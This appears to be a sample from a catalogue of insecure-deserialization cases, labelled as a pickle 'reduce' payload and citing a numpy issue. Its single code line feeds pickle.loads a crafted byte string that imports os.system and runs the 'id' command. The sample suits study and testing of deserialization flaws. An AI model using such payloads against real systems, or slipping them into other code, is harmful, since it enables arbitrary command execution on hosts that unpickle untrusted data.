# Source: https://github.com/numpy/numpy/issues/12759 (__reduce__ returning os.system)
# Family: pickle-marshal
# What: pickle.loads of a reduce payload
import pickle
pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
